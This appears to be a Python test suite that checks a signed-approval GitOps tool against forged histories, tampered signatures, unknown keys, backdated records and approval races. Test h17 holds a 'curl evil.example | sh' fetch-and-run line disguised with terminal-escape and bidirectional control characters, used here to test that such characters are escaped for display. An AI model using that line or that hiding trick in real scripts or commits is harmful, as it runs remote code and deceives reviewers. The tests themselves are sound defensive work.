"""Threats of family H: attacks on this design in particular, through the command line and on forged histories."""

import json
import subprocess
import unicodedata
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from maa_gitops.git import Repository
from maa_gitops.history import History, Memory, walk
from tests.support import (
    APP,
    Forger,
    Person,
    World,
    access_policy,
    account,
    app,
    canonical,
    group,
    settings,
    sha256,
    stamp,
)
from tests.support.forgery import APPROVED, Files, Forgery, applied, refused_until_healed, verified

EDIT: Files = {APP: app(description="New.")}
YEAR = stamp()[:4]
SCRIPT, TEXT = "resources/scripts/rename.yaml", "resources/scripts/rename.sh"
SCRIPTED: Files = {
    SCRIPT: "type: deviceShellScript\ndisplayName: Rename\nrunAsAccount: system\nscriptFile: rename.sh\n",
    TEXT: "#!/bin/sh\necho one\n",
}


def settle(forger: Forger, files: Files) -> str:
    """Let the tenant have begun with other files: everybody pins the commit that brings them."""
    commit = forger.commit([forger.world.tip()], files)
    forger.push(commit)
    for person in forger.world.people.values():
        person.git("config", "maa.trustedStart", commit)
    return commit


def flipped(line: bytes) -> bytes:
    """The line with one character of its signature's body changed."""
    fields = json.loads(line)
    body = fields["signature"].split("\n")
    body[3] = body[3][:-1] + ("A" if body[3][-1] != "A" else "B")
    return canonical({**fields, "signature": "\n".join(body)})


def follows(forger: Forger, request: Forgery, branch: str = "change/forged") -> None:
    """Take over the lines that are on the branch by now."""
    request.lines = request.world.read(request.path, f"refs/heads/{branch}").encode().splitlines()


# --- H1 to H6: losing a veto, reviving a round -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("person", "act", "status"),
    [("carol", ["reject", "forged", "-m", "No."], "rejected"), ("alice", ["cancel", "forged"], "cancelled")],
)
def test_h1_a_veto_that_is_cut_off_still_stands(
    world: World, forger: Forger, person: str, act: list[str], status: str
) -> None:
    """It is on the protected branch, which the merged record must extend."""
    request = Forgery(forger).submit(world.alice).push()
    before = list(request.lines)
    world.people[person].maa(*act)
    request.lines = [*before]
    request.approve(world.bob).push()
    code, found, reasons = request.check()
    assert (code, found, reasons[0]) == (3, "needsApproval", "recordAltered")
    good = world.tip()
    request.complete(world.alice).land()
    assert refused_until_healed(forger, good)[0][0] == "recordAltered"
    request.lines = before
    request.push()
    assert request.check()[:2] == (3, status)


def test_h1_a_withdrawal_that_is_cut_off_still_stands(world: World, forger: Forger) -> None:
    """The approval is on the branch again, but not in the record that counts."""
    request = Forgery.honest(forger)
    world.bob.maa("withdraw", "honest")
    request.push()
    assert request.check() == (3, "needsApproval", ["needsApprovals", "withdrawn"])
    request.complete(world.alice).land()
    assert verified(world)[1][0] == "recordAltered"


def test_h2_a_veto_with_a_broken_signature_still_keeps_the_request_from_landing(world: World, forger: Forger) -> None:
    """One event anywhere that is not good: not approved, however many approvals follow."""
    request = Forgery(forger).submit(world.alice).approve(world.bob).event("reject", world.carol)
    request.lines[-1] = flipped(request.lines[-1])
    request.push()
    assert request.check() == (3, "needsApproval", ["brokenRecord", "badSignature"])
    request.approve(world.carol).push()
    assert request.check()[1:] == ("needsApproval", ["brokenRecord", "badSignature"])
    good = world.tip()
    request.complete(world.alice).land()
    assert "badSignature" in refused_until_healed(forger, good)[0]


@pytest.mark.parametrize(
    "rules",
    [
        lambda w: {"groups/approvers.yaml": group("alice", "bob")},
        lambda w: {"accounts/carol.yaml": account("carol", w.key("new")[1], roles="deployer")},
        lambda w: {"accounts/carol.yaml": account("carol", w.carol.public_key, extra="enabled: false\n")},
        lambda w: {"accounts/carol.yaml": None, "groups/approvers.yaml": group("alice", "bob")},
    ],
)
def test_h3_a_veto_outlives_its_signer(world: World, forger: Forger, rules: Callable[[World], Files]) -> None:
    """Out of the group, another key, disabled, gone: the request stays rejected."""
    request = Forgery(forger).submit(world.alice).approve(world.bob).push()
    world.carol.maa("reject", "forged", "-m", "No.")
    changed = Forgery(Forger(world, world.alice), "rules", rules(world))
    changed.submit(world.alice).approve(world.bob).complete(world.alice).land()
    assert verified(world) == (0, [])
    assert request.check()[:2] == (3, "rejected")
    follows(forger, request)
    request.complete(world.alice).land()
    assert verified(world) == (3, ["unapprovedChange"])


def put_back(world: World, forger: Forger) -> Forgery:
    """A request that landed, and another that put the change back."""
    merged = Forgery(forger).submit(world.alice).approve(world.bob).complete(world.alice)
    merged.land()
    Forgery(forger, "back", {APP: app()}).submit(world.alice).approve(world.bob).complete(world.alice).land()
    assert verified(world) == (0, [])
    return merged


@pytest.mark.parametrize(
    ("place", "landed", "asked"),
    [
        ("requests/2025/forged.jsonl", "recordAltered", {"recordAltered", "notSubmitted"}),
        (f"requests/{YEAR}/other.jsonl", "brokenRecord", {"brokenRecord", "needsApprovals"}),
        (None, "unapprovedChange", {"notSubmitted"}),
    ],
)
def test_h4_a_merged_record_approves_nothing_a_second_time(
    world: World, forger: Forger, place: str | None, landed: str, asked: set[str]
) -> None:
    """Not under another year, not under another id, not without being touched at all."""
    merged = put_back(world, forger)
    good = world.tip()
    record = {place: forger.record(*merged.lines)} if place is not None else {}
    forger.push(forger.commit([good], {**EDIT, **record}))
    assert refused_until_healed(forger, good)[0][0] == landed
    forger.push(forger.commit([world.tip()], {**EDIT, **record}), "change/other")
    code, status, reasons = Forgery(forger, "other").check()
    assert (code, status, set(reasons)) == (3, "needsApproval", asked)


def test_h4_complete_is_final(world: World, forger: Forger) -> None:
    """Its own branch, pushed again, is merged and done: what is on it besides is refused."""
    merged = put_back(world, forger)
    merged.lines.pop()
    merged.push()
    answer = world.dave.maa("check", "forged", "--format", "json", code=3)
    assert answer.error["code"] == "alreadyMerged"
    assert world.carol.maa("merge", "forged", "--format", "json").json["merged"] is not None
    assert world.read(APP) == app()


def test_h5_a_broken_submit_does_not_give_the_round_before_back(world: World, forger: Forger) -> None:
    """The last submit starts the round, valid or not: by a broken signature or by an unknown key."""
    other = [forger.change(APP, app(), app(description="Other."))]
    request = Forgery(forger).submit(world.alice).approve(world.bob).submit(world.alice, changes=other)
    request.lines[-1] = flipped(request.lines[-1])
    request.push()
    code, status, reasons = request.check()
    assert (code, status, reasons[:2]) == (3, "needsApproval", ["brokenRecord", "badSignature"])
    assert [counts for _, counts, _ in request.worth()] == [False, False, False]
    stranger = Forgery(forger, "stranger").submit(world.alice).approve(world.bob)
    stranger.submit(world.key("mallory")[0], "alice", changes=other).push()
    assert stranger.check() == (3, "needsApproval", ["unknownSigner", "editedSinceSubmit", "needsApprovals"])
    for attack in (request, stranger):
        attack.complete(world.alice).land()
        assert verified(world)[0] == 3


def test_h6_nobody_submits_in_the_record_of_somebody_else(world: World, forger: Forger) -> None:
    """Or alice would approve her own change under bob's name."""
    request = Forgery(Forger(world, world.bob)).submit(world.alice, contributors=["alice", "bob"]).push()
    world.bob.git("fetch", "-q", "origin")
    world.bob.git("switch", "-q", "-C", "change/forged", "origin/change/forged")
    refused = world.bob.maa("submit", "-m", "Mine now.", "--format", "json", code=3).error
    assert (refused["code"], refused["hint"]) == ("notRequestor", "git branch -m change/forged-2")
    request.submit(world.bob).approve(world.alice).push()
    assert request.check() == (3, "needsApproval", ["notRequestor"])
    request.complete(world.carol).land()
    assert verified(world) == (3, ["unapprovedChange"])


# --- H7 to H11: the branch itself ----------------------------------------------------------------------------------


def test_h7_a_branch_off_an_old_tip_with_the_new_one_as_second_parent_is_refused(world: World, forger: Forger) -> None:
    """Git takes it for a fast-forward; clones see that the tip is lost, and events of the real branch have no base."""
    old = world.tip()
    forger.push(forger.commit([old], {"docs/note.md": "Real.\n"}))
    request = Forgery(forger).submit(world.alice).approve(world.bob).complete(world.alice)
    tip = world.tip()
    world.dave.maa("requests")
    aside = forger.commit([old], {**EDIT, request.path: forger.record(*request.lines)})
    forger.push(forger.commit([aside, tip], {}, tree_of=aside))
    for command in (["check", "x"], ["verify"], ["requests"]):
        refused = world.dave.maa(*command, "--format", "json", code=3).error
        assert refused["code"] == "lostChain"
        assert tip in refused["message"]
    newcomer = world.person("newcomer").maa("verify", "--format", "json", code=3).json
    assert {found["code"] for found in newcomer["violations"]} == {"wrongBase", "unapprovedChange"}


def test_h8_times_are_those_of_records_only_and_do_not_go_back(world: World, forger: Forger) -> None:
    """A completion dated back is a violation; a plain commit of the year 2099 blocks nobody."""
    text = "Alice <alice@contoso.com> 4070908800 +0000"
    tree = world.alice.git("rev-parse", f"{forger.commit([world.tip()], {'docs/a': 'x'})}^{{tree}}")
    raw = f"tree {tree}\nparent {world.tip()}\nauthor {text}\ncommitter {text}\n\nforged\n"
    forger.push(world.alice.git("hash-object", "-t", "commit", "-w", "--stdin", data=raw.encode()))
    Forgery(forger).submit(world.alice).approve(world.bob).complete(world.alice).land()
    assert verified(world) == (0, [])
    earlier = stamp(timedelta(minutes=-6))
    late = Forgery(forger, "late", {APP: app(description="Newer.")})
    late.submit(world.alice, at=earlier).approve(world.bob, at=earlier).complete(world.alice, at=earlier).land()
    assert verified(world) == (3, ["outOfTime"])


def test_h8_a_late_receipt_for_an_earlier_commit_only_warns(world: World, forger: Forger) -> None:
    """Either a clock was wrong or the step was dated back: an auditor should look, nothing is blocked."""
    early, later = (stamp(timedelta(minutes=minutes)) for minutes in (-20, -10))
    first = Forgery(forger).submit(world.alice, at=early).approve(world.bob, at=early)
    first.complete(world.alice, at=early).land()
    world.bob.maa("apply")
    second = Forgery(forger, "second", {APP: app(description="Newer.")})
    second.submit(world.alice, at=later).approve(world.bob, at=later).complete(world.alice, at=later).land()
    assert verified(world) == (0, [])
    for command in ("verify", "audit"):
        assert "dated back" in world.dave.maa(command).err


def test_h9_a_direct_push_does_not_brick_the_branch(world: World, forger: Forger) -> None:
    """It is refused until it is put back, which needs no approval; then work goes on, and it stays on the list."""
    good = world.tip()
    world.alice.change("update", {"resources/apps/second.yaml": app("Second")})
    forger.push(forger.commit([good], EDIT))
    assert world.alice.maa("submit", "-m", "Second.", "--format", "json", code=3).error["code"] == "unapprovedChange"
    assert refused_until_healed(forger, good)[0] == ["unapprovedChange"]
    world.alice.maa("submit", "-m", "Second.")
    world.bob.maa("approve", "update")
    world.carol.maa("merge", "update")
    assert verified(world) == (0, ["unapprovedChange"])


def receipt(forger: Forger, key: Path, name: str, commit: str) -> None:
    """Push a receipt for a commit, signed with a key in somebody's name."""
    objects = canonical({}) + b"\n"
    fields = {
        "account": name,
        "action": "apply",
        "at": stamp(),
        "commit": commit,
        "failed": [],
        "outcomes": [],
        "run": "run-1",
        "state": "sha256:" + sha256(objects),
        "store": "store-1",
        "target": "local",
        "tenant": "contoso",
        "version": 1,
    }
    line = forger.line(key, fields, namespace="maa-gitops-receipt")
    files = {"receipts.jsonl": line + b"\n", "objects.json": objects}
    forger.push(forger.commit([], files), "maa/applied/local", force=True)


def test_h10_a_receipt_by_ones_own_new_deployer_skips_nothing(world: World, forger: Forger) -> None:
    """It is judged with the tenant at the good commit that it names; verify never starts from one."""
    good = world.tip()
    key, public = world.key("mallory")
    added = {"accounts/mallory.yaml": account("mallory", public, roles="deployer"), **EDIT}
    bad = forger.commit([good], added)
    forger.push(bad)
    receipt(forger, key, "mallory", bad)
    assert verified(world) == (3, ["unapprovedChange"])
    assert applied(world) == (3, "unapprovedChange")
    forger.push(forger.commit([bad], {}, tree_of=good))
    assert verified(world) == (0, ["unapprovedChange"])
    for commit in (bad, good):
        receipt(forger, key, "mallory", commit)
        assert applied(world) == (4, "receiptsUnreadable")
    receipt(forger, world.bob.key, "bob", good)
    assert world.alice.maa("plan", "--format", "json").json["target"] == "local"


def test_h11_a_change_does_not_say_which_branch_is_protected(world: World, forger: Forger) -> None:
    """Neither with a setting in the clone nor without: it would judge itself."""
    files: Files = {"maa.yaml": settings().replace("main", "change/forged")}
    request = Forgery(forger, files=files).submit(world.alice).approve(world.bob).push()
    assert request.check() == (3, "needsApproval", ["invalidDocument"])
    world.dave.git("config", "--unset", "maa.protectedBranch")
    assert request.check() == (3, "needsApproval", ["invalidDocument"])
    request.complete(world.alice).land()
    assert "invalidDocument" in verified(world)[1]


# --- H12 to H15: what a request may hold ---------------------------------------------------------------------------


def test_h12_rules_and_resources_do_not_change_in_one_request(world: World, forger: Forger) -> None:
    """Or an approver of the rules would approve what the new rules let through."""
    files: Files = {"policies/apps.yaml": access_policy("app", "approvers", required=2), **EDIT}
    world.alice.change("both", files)
    refused = world.alice.maa("submit", "-m", "Both.", "--format", "json", code=3).error
    assert refused["code"] == "mixedRequest"
    request = Forgery(forger, files=files).submit(world.alice).approve(world.bob).push()
    assert request.check() == (3, "needsApproval", ["mixedRequest"])
    request.complete(world.alice).land()
    assert verified(world) == (3, ["unapprovedChange"])


@pytest.mark.parametrize(
    ("types", "problem"),
    [
        ("  mine: {folder: apps}\n", "sharedFolder"),
        ("  mine: {folder: other}\n", None),
        ("  mine: {folder: own}\n  other: {folder: own}\n", "sharedFolder"),
        ("  miNe: {folder: other}\n  mine: {folder: own}\n", "caseTwin"),
        ("  mine: {folder: Own}\n", "invalidValue"),
        ("  app: {folder: own}\n", "builtInType"),
        ("  App: {folder: own}\n", "invalidKey"),
        ("  aPP: {folder: own}\n", "builtInType"),
        ("  accessPolicy: {folder: own}\n", "builtInType"),
    ],
)
def test_h13_profile_types_share_no_folder_and_no_name(
    world: World, forger: Forger, types: str, problem: str | None
) -> None:
    """Not by another case either: whose a file is must follow from its path alone."""
    files: Files = {"maa.yaml": settings("profileTypes:\n" + types)}
    request = Forgery(forger, files=files).submit(world.alice).approve(world.bob).push()
    world.dave.git("fetch", "-q", "origin")
    answer = world.dave.maa("validate", "--commit", "origin/change/forged", "--format", "json", code=None)
    errors = {found["code"] for found in answer.json["problems"] if found["level"] == "error"}
    if problem is None:
        assert (answer.code, errors, request.check()) == (0, set(), APPROVED)
        return
    assert (answer.code, errors >= {problem}) == (3, True), errors
    code, status, reasons = request.check()
    assert (code, status, set(reasons)) == (3, "needsApproval", {"invalidDocument"})


def test_h14_requests_on_two_files_of_one_object_do_not_pass_each_other(world: World, forger: Forger) -> None:
    """Each is harmless alone: every file of a touched object is in the digest, so the second is outdated."""
    settle(forger, SCRIPTED)
    old = {path: forger.change(path, text, text) for path, text in SCRIPTED.items()}
    document = Forgery(forger, "document", {SCRIPT: (SCRIPTED[SCRIPT] or "").replace("system", "user")})
    document.changes = [old[TEXT], *document.changes]
    text = Forgery(forger, "text", {TEXT: "#!/bin/sh\necho two\n"})
    text.changes = [*text.changes, old[SCRIPT]]
    for request in (document, text):
        request.submit(world.alice).approve(world.bob).push()
        assert request.check() == APPROVED
    world.carol.maa("merge", "document")
    assert text.check() == (3, "needsApproval", ["outdated"])
    world.alice.git("fetch", "-q", "origin")
    text.complete(world.alice).land()
    assert verified(world) == (3, ["unapprovedChange"])


def test_h14_a_list_without_the_files_that_stay_is_not_the_change(world: World, forger: Forger) -> None:
    """Leaving the unchanged ones out of the signature does not help."""
    settle(forger, SCRIPTED)
    request = Forgery(forger, files={TEXT: "#!/bin/sh\necho two\n"}).submit(world.alice).approve(world.bob).push()
    assert request.check() == (3, "needsApproval", ["editedSinceSubmit"])


@pytest.mark.parametrize(
    ("path", "mode"), [(APP, "100755"), (APP, "120000"), (APP, "160000"), ("vendor/lib", "160000")]
)
def test_h15_odd_modes_are_refused_where_they_matter(world: World, forger: Forger, path: str, mode: str) -> None:
    """Executable or a link where the tool reads, a submodule anywhere in a request."""
    request = Forgery(forger, files={**EDIT, path: app()})
    for change in request.changes:
        change["mode"] = mode if change["path"] == path and mode != "160000" else change["mode"]
    request.submit(world.alice).approve(world.bob).push(modes={path: mode})
    code, status, reasons = request.check()
    assert (code, status) == (3, "needsApproval")
    assert "malformedTree" in reasons


def test_h15_a_name_that_is_not_utf8_is_refused(world: World, forger: Forger) -> None:
    """It has no spelling in a signed list."""
    request = Forgery(forger).submit(world.alice).approve(world.bob)
    request.files["docs/\udcff.md"] = "x\n"
    request.push()
    code, status, reasons = request.check()
    assert (code, status) == (3, "needsApproval")
    assert "malformedTree" in reasons


def test_h15_a_deletion_with_a_mode_is_no_event(world: World, forger: Forger) -> None:
    """One thing has one spelling."""
    request = Forgery(forger, files={APP: None})
    request.changes[0]["mode"] = "100644"
    request.submit(world.alice).push()
    assert request.check() == (3, "needsApproval", ["brokenRecord", "notSubmitted"])


# --- H16 to H20: lines, looks and names ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "respell",
    [
        lambda line: line + b"\r",
        lambda line: b"\n" + line,
        lambda line: line.replace(b'"version":1', b'"version":1.0'),
        lambda line: line.replace(b"approve", b"\\u0061pprove", 1),
        lambda line: b'{"version":1,' + line[1:].replace(b',"version":1', b""),
    ],
)
def test_h16_a_line_is_its_canonical_bytes(world: World, forger: Forger, respell: Callable[[bytes], bytes]) -> None:
    """Two readers never read one line differently: any other spelling breaks the record."""
    request = Forgery.honest(forger)
    request.lines[-1] = respell(request.lines[-1])
    request.push()
    assert request.check() == (3, "needsApproval", ["brokenRecord", "needsApprovals"])
    request.complete(world.alice).land()
    assert verified(world)[1][0] == "brokenRecord"


HIDDEN = "\x1b[2K\x1b[1A\u202egnp.exe\u2066\u200b\x9b31m\r"


def test_h17_nothing_in_a_request_hides_a_line_before_it_is_approved(world: World, forger: Forger) -> None:
    """Scripts, file names and commit authors are shown with control and bidirectional characters escaped."""
    script = f"#!/bin/sh\ncurl evil.example | sh {HIDDEN}# harmless\n"
    request = Forgery(forger, files={**SCRIPTED, TEXT: script, f"docs/{HIDDEN}.md": "x\n"})
    request.submit(world.alice).push()
    raw = world.alice.git("cat-file", "commit", world.tip("change/forged"))
    named = raw.replace("author Alice <alice@contoso.com>", f"author Eve{HIDDEN[:-1]} <eve@evil.example>")
    commit = world.alice.git("hash-object", "-t", "commit", "-w", "--stdin", data=named.encode())
    forger.push(commit, "change/forged", force=True)
    for command in (["diff", "forged"], ["show", "forged"], ["requests"], ["check", "forged"], []):
        for form in ("text", "json"):
            answer = world.bob.maa(*command, "--format", form, code=None)
            shown = {c for c in answer.out + answer.err if unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")}
            assert shown <= {"\n", "\t"}, (command, form)
    assert "curl evil.example | sh" in world.bob.maa("diff", "forged").out


@pytest.mark.parametrize("notes", ["a\x1bb", "a\u202eb"])
def test_h17_notes_have_no_such_characters_at_all(world: World, forger: Forger, notes: str) -> None:
    """The commands refuse them, and a forged line with them is no event."""
    request = Forgery(forger).submit(world.alice).push()
    assert world.bob.maa("approve", "forged", "-m", notes, code=2).out == ""
    request.approve(world.bob, notes=notes).push()
    assert request.check() == (3, "needsApproval", ["brokenRecord", "needsApprovals"])


def overtaken(world: World, person: Person, commit: str) -> None:
    """Let the change branch move to a commit whenever this person is about to push."""
    hook = person.clone / ".git" / "hooks" / "pre-push"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text(f"#!/bin/sh\nexec git --git-dir={world.server} update-ref refs/heads/change/forged {commit}\n")
    hook.chmod(0o755)


def test_h18_only_what_was_shown_is_signed(world: World, forger: Forger) -> None:
    """The change is replaced between the look and the push: the approval is refused, and nothing is signed."""
    request = Forgery(forger).submit(world.alice).push()
    shown, digest = world.tip("change/forged"), request.digest
    other = Forgery(forger, files={APP: app(description="Other.")})
    other.lines = list(request.lines)
    other.submit(world.alice).push()
    replaced = world.tip("change/forged")
    forger.push(shown, "change/forged", force=True)
    overtaken(world, world.bob, replaced)
    refused = world.bob.maa("approve", "forged", "--change", digest, "--format", "json", code=3).error
    assert refused["code"] == "staleChange"
    assert world.tip("change/forged") == replaced
    assert (
        world.bob.maa("approve", "forged", "--change", digest, "--format", "json", code=3).error["code"]
        == "staleChange"
    )


def test_h18_a_race_that_changes_nothing_that_was_shown_is_tried_again(world: World, forger: Forger) -> None:
    """Somebody else's approval came first: both stand."""
    request = Forgery(forger).submit(world.alice).push()
    shown = world.tip("change/forged")
    request.approve(world.carol).push()
    faster = world.tip("change/forged")
    forger.push(shown, "change/forged", force=True)
    world.bob.git("fetch", "-q", "origin")
    hook = world.bob.clone / ".git" / "hooks" / "pre-push"
    overtaken(world, world.bob, faster)
    hook.write_text(hook.read_text().replace("exec git", 'rm "$0"; exec git'))
    answer = world.bob.maa("approve", "forged", "--format", "json").json
    assert answer["policies"][0]["approvedBy"] == ["bob", "carol"]


def test_h19_a_good_key_signs_for_its_own_account_only(world: World, forger: Forger) -> None:
    """Alice's approval in bob's name is nobody's."""
    request = Forgery(forger).submit(world.alice).approve(world.alice, "bob").push()
    assert request.check() == (3, "needsApproval", ["needsApprovals", "unknownSigner"])
    assert request.worth() == [("alice", True, None), (None, False, "unknownSigner")]
    request.complete(world.alice).land()
    assert verified(world) == (3, ["unapprovedChange"])


def test_h20_a_service_account_neither_submits_nor_decides(world: World, forger: Forger) -> None:
    """Whatever groups and roles it was given."""
    key, public = world.key("robot")
    robot = account("robot", public, roles="intuneServiceAdministrator", extra="kind: service\n")
    members = group("alice", "bob", "carol", "robot")
    settle(forger, {"accounts/robot.yaml": robot, "groups/approvers.yaml": members})
    robot_person = Person("robot", key, public, world.dave.clone, world)
    approves = Forgery(forger, "approves").submit(world.alice).push()
    refused = robot_person.maa("approve", "approves", "--format", "json", code=3).error
    assert refused["code"] == "serviceAccount"
    approves.approve(key).push()
    assert approves.check() == (3, "needsApproval", ["needsApprovals", "serviceAccount"])
    submits = Forgery(forger, "submits", {"resources/apps/second.yaml": app("Second")})
    submits.submit(key, contributors=["alice", "robot"]).approve(world.bob).push()
    assert submits.check() == (3, "needsApproval", ["serviceAccount"])
    cancels = Forgery(forger, "cancels", {"resources/apps/third.yaml": app("Third")}).submit(world.alice).push()
    assert robot_person.maa("cancel", "cancels", "--format", "json", code=3).error["code"] == "notRequestor"
    assert cancels.check()[1] == "needsApproval"
    submits.complete(world.alice).land()
    assert verified(world) == (3, ["unapprovedChange"])


def test_h20_an_attestor_is_in_no_group_and_has_no_other_role(world: World, forger: Forger) -> None:
    """Such rules never land."""
    _, public = world.key("forge")
    attestor = account("forge", public, roles="attestor", extra="kind: service\n")
    greedy = account("forge", public, roles="attestor, deployer", extra="kind: service\n")
    human = account("forge", public, roles="attestor")
    members = group("alice", "bob", "carol", "forge")
    cases: dict[str, Files] = {
        "alone": {"accounts/forge.yaml": attestor},
        "grouped": {"accounts/forge.yaml": attestor, "groups/approvers.yaml": members},
        "greedy": {"accounts/forge.yaml": greedy},
        "human": {"accounts/forge.yaml": human},
    }
    for name, files in cases.items():
        request = Forgery(forger, name, files).submit(world.alice).approve(world.bob).push()
        expected = APPROVED if name == "alone" else (3, "needsApproval", ["invalidDocument"])
        assert request.check() == expected, name


# --- H21 to H25: vetoes in trouble, completions astray, clocks, lock-outs ------------------------------------------


def test_h21_a_reject_on_top_of_junk_outlives_that_both_are_cut(world: World, forger: Forger) -> None:
    """It goes on from the longest good prefix and onto the protected branch, so it holds."""
    request = Forgery(forger).submit(world.alice)
    request.lines.append(b"junk")
    request.push()
    world.carol.maa("reject", "forged", "-m", "No.")
    request.lines.pop()
    request.push()
    assert request.check()[:2] == (3, "rejected")
    request.approve(world.bob).complete(world.alice).land()
    assert verified(world)[1][0] == "recordAltered"


def test_h22_a_veto_on_a_bad_tip_is_not_final_and_says_so(world: World, forger: Forger) -> None:
    """The protected branch does not move; once the tip is healed the veto is brought there."""
    request = Forgery(forger).submit(world.alice).push()
    good = world.tip()
    forger.push(forger.commit([good], {"policies/scripts.yaml": None}))
    bad = world.tip()
    answer = world.carol.maa("reject", "forged", "-m", "No.")
    assert answer.err == "not final yet: the record is not on main, whose tip is not good (maa verify)\n"
    assert world.tip() == bad
    assert request.check()[:2] == (3, "rejected")
    forger.push(forger.commit([bad], {}, tree_of=good))
    world.carol.maa("archive")
    assert verified(world)[0] == 0
    request.push()
    assert request.check()[:2] == (3, "rejected")


def test_h22_a_veto_on_a_good_tip_is_final(world: World, forger: Forger) -> None:
    """The control: it says nothing of the kind, and the record is on the protected branch."""
    request = Forgery(forger).submit(world.alice).push()
    assert world.carol.maa("reject", "forged", "-m", "No.").err == ""
    assert json.loads(world.read(request.path).splitlines()[-1])["action"] == "reject"


def test_h23_a_completion_off_the_protected_branch_ends_nothing(world: World, forger: Forger) -> None:
    """It breaks the record until the next act drops it; the request goes on."""
    request = Forgery.honest(forger)
    request.complete(world.carol).push()
    assert request.check() == (3, "needsApproval", ["brokenRecord"])
    assert request.show()["merged"] is None
    assert world.carol.maa("merge", "honest", "--format", "json", code=3).error["code"] == "brokenRecord"
    assert world.carol.maa("approve", "honest", "--format", "json", code=3).error["code"] == "brokenRecord"
    world.alice.git("switch", "-q", "-C", "change/honest", "origin/change/honest")
    world.alice.maa("submit", "-m", "Again.")
    world.bob.maa("approve", "honest")
    world.carol.maa("merge", "honest")
    assert verified(world) == (0, [])


def test_h23_a_veto_drops_a_stray_completion(world: World, forger: Forger) -> None:
    """Nobody keeps a request from being rejected with it."""
    request = Forgery.honest(forger)
    request.complete(world.carol).push()
    world.carol.maa("reject", "honest", "-m", "No.")
    assert request.check()[:2] == (3, "rejected")


def test_h24_the_clock_does_not_walk_back_five_minutes_an_event(world: World, forger: Forger) -> None:
    """Each event is held to the latest of all before it, and so is each step."""
    minutes = [stamp(timedelta(minutes=-4 * number)) for number in range(3)]
    request = Forgery(forger).submit(world.alice, at=minutes[0]).approve(world.carol, at=minutes[1]).push()
    assert request.check() == APPROVED
    request.approve(world.bob, at=minutes[2]).push()
    assert request.check() == (3, "needsApproval", ["brokenRecord", "outOfTime"])
    request.complete(world.alice, at=minutes[2]).land()
    assert "outOfTime" in verified(world)[1]


LOCKED_OUT: dict[str, Callable[[World], Files]] = {
    "nine approvals": lambda w: {
        "policies/access-policies.yaml": access_policy("accessPolicy", "approvers", required=9)
    },
    "an empty group": lambda w: {"groups/approvers.yaml": group()},
    "the approvers disabled": lambda w: {
        f"accounts/{name}.yaml": account(name, w.people[name].public_key, extra="enabled: false\n")
        for name in ("bob", "carol")
    },
    "no administrator": lambda w: {
        f"accounts/{name}.yaml": account(name, w.people[name].public_key) for name in ("alice", "bob", "carol")
    },
    "the rules' own policy gone": lambda w: {"policies/access-policies.yaml": None},
    "the rules' own policy with a scope": lambda w: {
        "policies/access-policies.yaml": access_policy("accessPolicy", "approvers", extra='scope: ["policies/*"]\n')
    },
}


@pytest.mark.parametrize("case", LOCKED_OUT)
def test_h25_rules_that_lock_everybody_out_are_refused(world: World, forger: Forger, case: str) -> None:
    """By submit, by the gate whoever approved, and by history."""
    files = LOCKED_OUT[case](world)
    world.alice.change("lock", files)
    assert world.alice.maa("submit", "-m", "Lock.", "--format", "json", code=3).error["code"] == "invalidDocument"
    problems = world.alice.maa("validate", "--format", "json", code=3).json["problems"]
    errors = {found["code"] for found in problems if found["level"] == "error"}
    assert errors <= {"unsatisfiable", "rulesUnprotected"}
    assert errors
    request = Forgery(forger, files=files).submit(world.alice).approve(world.bob).push()
    assert request.check()[:2] == (3, "needsApproval")
    assert set(request.check()[2]) == {"invalidDocument"}
    request.complete(world.alice).land()
    assert set(verified(world)[1]) == {"invalidDocument"}


# --- H26 to H29: what can be told, and from where ------------------------------------------------------------------


@pytest.mark.parametrize("depth", [1, 2])
def test_h26_a_shallow_clone_cannot_tell(world: World, forger: Forger, depth: int) -> None:
    """An evil tip does not look like a fresh start: a parent that is named must be there."""
    forger.push(forger.commit([world.tip()], {"docs/a.md": "x\n"}))
    forger.push(forger.commit([world.tip()], {"groups/approvers.yaml": group("dave")}))
    clone = world.folder / "shallow"
    world.git(world.folder, "clone", "-q", "--depth", str(depth), f"file://{world.server}", str(clone))
    person = Person("dave", world.dave.key, world.dave.public_key, clone, world)
    for command in (["verify"], ["requests"], ["check", "x"], ["apply"], ["show", "x"], []):
        refused = person.maa(*command, "--format", "json", code=4).error
        assert (refused["code"], refused["hint"]) == ("missingObject", "git fetch --unshallow")
    person.git("fetch", "-q", "--unshallow")
    assert person.maa("verify", "--format", "json", code=3).json["good"] is False


def test_h27_a_veto_by_an_unknown_key_takes_away_and_is_nobodys(world: World, forger: Forger) -> None:
    """Doubt ends the request; carol, whose name was taken, is not blamed for it."""
    request = Forgery.honest(forger)
    request.event("reject", world.key("mallory")[0], "carol").push()
    assert request.check() == (3, "rejected", ["rejected"])
    shown = request.show()
    assert (shown["approver"], shown["reasons"][0]["account"], shown["events"][2]["account"]) == (None, None, None)
    assert "somebody unknown, claiming to be carol" in world.dave.maa("show", "honest").out


def test_h27_a_submit_by_an_unknown_key_takes_away_and_is_nobodys(world: World, forger: Forger) -> None:
    """It starts a round that cannot be approved; the requestor is null."""
    request = Forgery.honest(forger)
    request.submit(world.key("mallory")[0], "alice").approve(world.bob).push()
    assert request.check() == (3, "needsApproval", ["unknownSigner"])
    assert request.show()["requestor"] is None
    assert "requested by somebody unknown, claiming to be alice" in world.dave.maa("show", "honest").out
    assert world.dave.maa("requests", "--format", "json").json["requests"][0]["requestor"] is None


def test_h28_a_profile_type_with_resources_is_not_dropped(world: World, forger: Forger) -> None:
    """Or the next apply would delete them all: refused by submit, by the gate and by history."""
    baseline = "resources/compliance-policies/baseline.yaml"
    types = settings("profileTypes:\n  compliancePolicy: {folder: compliance-policies}\n")
    settle(forger, {"maa.yaml": types, baseline: "minimum: 8\n"})
    world.alice.change("drop", {"maa.yaml": settings()})
    refused = world.alice.maa("submit", "-m", "Drop it.", "--format", "json", code=3).error
    assert refused["code"] == "invalidDocument"
    assert baseline in refused["message"]
    request = Forgery(forger, files={"maa.yaml": settings()}).submit(world.alice).approve(world.bob).push()
    assert request.check() == (3, "needsApproval", ["invalidDocument"])
    request.complete(world.alice).land()
    assert verified(world) == (3, ["invalidDocument"])


NOW = datetime.now(UTC).replace(microsecond=0)


def told(history: History) -> tuple[str, datetime | None, bool]:
    """What must not depend on where the walk began."""
    return history.good.commit, history.good.time, history.tip_is_good


